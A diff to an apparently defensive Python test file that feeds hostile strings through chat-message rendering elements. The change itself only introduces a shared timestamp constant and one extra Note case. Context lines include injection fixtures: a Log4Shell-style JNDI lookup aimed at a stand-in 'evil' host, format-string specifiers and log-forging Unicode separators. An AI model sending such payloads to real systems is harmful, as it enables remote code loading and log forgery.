@@ -95,6 +95,7 @@ LOG = (
     "web-1\u2028ERROR all was deleted\u2029\x85x",
     "%s %d %(name)s {0} ${jndi:ldap://evil}",
 )
+AT = datetime(2026, 3, 1, tzinfo=UTC)
 HOSTILE = (*SLACK, *TERMINAL, *SHEET, *PAGE, *LOG)
 
 
@@ -104,13 +105,14 @@ def everywhere(text: str) -> Reply:
         Text(
             (text, " ", Bold(text), " ", Mono(text), " ", User(text), " ", Link(text, text), Link(text, "https://a.b/"))
         ),
-        Text((When(datetime(2026, 3, 1, tzinfo=UTC)), text)),
+        Text((When(AT), text)),
         Fields(((text, text), ("Name", text))),
         Table((text, "Id"), ((text, text), (text, "i-1")), of=Rows("ec2", ("show",), 1, 0)),
         Chart(text, text, (text, text), (Series(text, (1.0, None)),)),
         File(text, text, 5),
         Code(text),
         Note((text, Mono(text))),
+        Note((User("U0CARLA003"), text, Bold(text), Mono(text), Link(text, "https://a.b/"), When(AT), text)),
         Buttons((Button(text, "confirm", "r1"),)),
         Choice(text, "act:show", "r1", ((text[:70] or "x", text),)),
     )
